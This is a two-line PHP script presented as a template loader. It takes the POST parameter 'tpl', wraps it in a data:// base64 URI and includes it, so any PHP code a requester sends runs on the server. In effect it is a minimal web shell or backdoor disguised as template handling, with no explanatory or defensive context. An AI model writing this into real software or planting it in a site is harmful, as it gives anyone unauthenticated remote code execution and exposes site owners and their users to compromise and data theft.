<?php
include 'data://text/plain;base64,' . $_POST['tpl'];
